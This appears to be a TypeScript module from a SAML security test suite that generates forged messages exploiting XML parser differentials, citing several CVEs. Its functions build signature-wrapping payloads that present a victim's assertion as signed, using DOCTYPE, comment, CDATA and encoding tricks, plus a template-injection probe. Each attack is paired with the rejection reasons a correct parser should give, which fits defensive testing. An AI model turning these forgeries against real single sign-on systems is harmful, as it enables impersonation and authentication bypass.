import type { AttackClass, Forged, Means } from '../attack.ts'
import {
  aboutVictim,
  forgedCopy,
  genuine,
  messageOf,
  replaced,
  signatureOf,
  signedAssertion,
  victimAssertion,
} from '../forging.ts'

/** A genuine message about the attacker, as these bytes. */
const as =
  (change: (xml: string) => Forged) =>
  (means: Means): Forged =>
    change(genuine(means))

const forgedThen =
  (between: (forged: string, signed: string) => string) =>
  (means: Means): string => {
    const signed = genuine(means)
    return between(messageOf(means, victimAssertion(means)), signed)
  }

/** Documents that parsers treat differently. */
export const parserDifferentials: AttackClass = {
  name: 'parser differentials',
  sources: [
    'CVE-2025-25291',
    'CVE-2025-25292',
    'CVE-2022-39299',
    'CVE-2022-39353',
    'PortSwigger, SAML roulette: the hacker always wins, 2025',
  ],
  controls: [
    {
      name: 'blanks between elements of the response',
      only: 'acs',
      forge: as(xml => xml.replace('<samlp:Status>', '\n  <samlp:Status>')),
    },
    { name: 'a byte order mark', forge: as(xml => `\uFEFF${xml}`) },
    {
      name: 'a name outside the basic multilingual plane',
      forge: means => genuine(means, { nameId: '\u{1F511} Ḱ Ａ' }),
    },
  ],
  attacks: [
    {
      name: 'two roots, the forged one first',
      reasons: ['not-xml'],
      forge: forgedThen((forged, signed) => forged + signed),
    },
    {
      name: 'two roots, the forged one last',
      reasons: ['not-xml'],
      forge: forgedThen((forged, signed) => signed + forged),
    },
    {
      name: 'the forged message in a document type',
      source: 'CVE-2025-25291',
      reasons: ['document-type'],
      forge: forgedThen((forged, signed) => `<!DOCTYPE x [<!ENTITY a "${forged.replaceAll('"', "'")}">]>${signed}`),
    },
    {
      name: 'a comment that begins in a document type',
      source: 'CVE-2025-25291',
      reasons: ['document-type'],
      forge: forgedThen((forged, signed) => `<!DOCTYPE x SYSTEM "<!--">${forged}<!-- -->${signed}`),
    },
    {
      name: 'a comment that ends in an attribute',
      reasons: ['comment'],
      forge: means => {
        const signed = signedAssertion(means)
        return messageOf(means, `<!-- <x y="-->${forgedCopy(signed)}<!--"/> -->${signed}`)
      },
    },
    {
      name: 'the signature in a CDATA section',
      reasons: ['no-signature'],
      forge: means => {
        const signed = signedAssertion(means)
        return messageOf(
          means,
          aboutVictim(signed).replace(signatureOf(signed), text => `<![CDATA[${text}]]>`),
        )
      },
    },
    { name: 'text before the root', reasons: ['not-xml'], forge: as(xml => `x${xml}`) },
    { name: 'text after the root', reasons: ['not-xml'], forge: as(xml => `${xml}x`) },
    { name: 'an end tag too many', reasons: ['not-xml'], forge: as(xml => `${xml}</saml:Assertion>`) },
    { name: 'an end tag too few', reasons: ['not-xml'], forge: as(xml => xml.slice(0, xml.lastIndexOf('</'))) },
    {
      name: 'end tags in another order',
      reasons: ['not-xml'],
      forge: as(xml => xml.replace('</saml:Conditions>', '</saml:Condition>')),
    },
    {
      name: 'attributes without quotes',
      reasons: ['not-xml'],
      forge: as(xml => xml.replace('Version="2.0"', 'Version=2.0')),
    },
    {
      name: 'an attribute without value',
      reasons: ['not-xml'],
      forge: as(xml => xml.replace(' Version="2.0"', ' victim Version="2.0"')),
    },
    {
      name: '< in an attribute',
      reasons: ['not-xml'],
      forge: as(xml => xml.replace(' Version="2.0"', ' x="<" Version="2.0"')),
    },
    { name: ']]> in a text', reasons: ['not-xml'], forge: as(xml => xml.replace('>mallory<', '>mallory]]><')) },
    { name: '& in a text', reasons: ['not-xml'], forge: as(xml => xml.replace('>mallory<', '>mallory&<')) },
    {
      name: '-- in a comment',
      reasons: ['comment'],
      forge: as(xml => xml.replace('<saml:Subject>', '<!-- -- --><saml:Subject>')),
    },
    {
      name: 'a null byte in the name',
      reasons: ['not-xml'],
      forge: as(xml => xml.replace('>mallory<', '>victim\0mallory<')),
    },
    { name: 'a null byte after the root', reasons: ['not-xml'], forge: as(xml => `${xml}\0`) },
    {
      name: 'a reference to a character that XML does not allow',
      reasons: ['not-xml'],
      forge: as(xml => xml.replace('>mallory<', '>victim&#0;<')),
    },
    {
      name: 'a reference to a lone surrogate',
      reasons: ['not-xml'],
      forge: as(xml => xml.replace('>mallory<', '>victim&#xD800;<')),
    },
    {
      name: 'invalid UTF-8',
      reasons: ['not-xml'],
      forge: as(xml => Buffer.from(replaced(xml, '>mallory<', '>mallory\xff<'), 'latin1')),
    },
    {
      name: 'overlong UTF-8',
      reasons: ['not-xml'],
      forge: as(xml => {
        const [before = '', after = ''] = xml.split('>mallory<')
        return Buffer.concat([Buffer.from(`${before}>`), Buffer.from([0xc1, 0xad]), Buffer.from(`allory<${after}`)])
      }),
    },
    { name: 'UTF-16', reasons: ['not-xml'], forge: as(xml => Buffer.from(`\uFEFF${xml}`, 'utf16le')) },
    {
      name: 'UTF-7 by declaration',
      reasons: ['not-xml'],
      means: 'mallory',
      forge: as(xml => `<?xml version="1.0" encoding="UTF-7"?>${xml}`),
    },
    {
      name: 'an XML declaration that is not at the start',
      reasons: ['not-xml'],
      forge: as(xml => ` <?xml version="1.0"?>${xml}`),
    },
    {
      name: 'two XML declarations',
      reasons: ['not-xml'],
      forge: as(xml => `<?xml version="1.0"?><?xml version="1.0"?>${xml}`),
    },
    {
      name: 'a processing instruction around the forged assertion',
      reasons: ['not-xml'],
      forge: means => {
        const signed = signedAssertion(means)
        return messageOf(means, `<?x ${forgedCopy(signed)}?>${signed}`)
      },
    },
    {
      name: 'the forged message in an attribute',
      reasons: ['bad-signature'],
      forge: means => {
        const signed = signedAssertion(means)
        const text = forgedCopy(signed).replaceAll('"', '&quot;').replaceAll('<', '&lt;')
        return messageOf(means, signed.replace('<saml:Subject>', `<saml:Subject x="${text}">`))
      },
    },
    {
      name: 'a line feed and a tab in the id',
      reasons: ['bad-signature'],
      forge: as(xml => xml.replace(/(<saml:Assertion[^>]* ID=")/, '$1\n\t')),
    },
    {
      name: 'a template element in the name',
      source: 'Server-side template injection by names',
      reasons: [],
      means: '${7*7}{{7*7}}',
      forge: means => genuine(means, { nameId: '${7*7}{{7*7}}' }),
    },
  ],
}
